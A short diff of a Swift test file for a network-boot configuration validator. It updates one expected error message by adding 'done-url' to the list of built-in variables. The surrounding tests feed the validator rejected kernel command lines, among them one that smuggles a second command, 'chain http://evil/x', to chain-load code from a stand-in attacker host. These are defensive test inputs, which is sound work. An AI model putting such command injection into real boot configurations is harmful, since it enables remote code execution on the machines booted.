@@ -74,7 +74,7 @@ import Testing
         #expect(faults(mac + "kernel = vmlinuz\ncmdline = a || chain http://evil/x\n").count == 1)
         #expect(faults(mac + "kernel = vmlinuz\ncmdline = a && b\n").count == 1)
         #expect(faults(mac + "kernel = vmlinuz\ncmdline = x=${net0/ip}\n") == [
-            "rack1-node07:3: cmdline: ${net0/ip}: no such variable (var net0/ip = VALUE makes one; the machine's are mac, mac:hexhyp, uuid, arch)"])
+            "rack1-node07:3: cmdline: ${net0/ip}: no such variable (var net0/ip = VALUE makes one; the machine's are mac, mac:hexhyp, uuid, arch, done-url)"])
         #expect(faults(mac + "kernel = vmlinuz\ncmdline = x=$hostname\n").count == 1)
         #expect(faults(mac + "kernel = vm linuz\n") == [
             "rack1-node07:2: kernel vm linuz: holds a character a loader's script would read (a location takes letters, digits and -._~:/?#[]@!*+,=%)"])
